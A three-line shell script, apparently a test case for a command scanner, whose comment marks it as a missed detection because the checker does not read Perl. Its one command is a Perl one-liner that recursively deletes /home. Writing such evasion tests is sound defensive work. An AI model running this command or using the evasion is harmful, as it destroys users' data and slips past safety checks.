#!/bin/sh
# Missed: Perl is not read
perl -e 'use File::Path; rmtree("/home");'
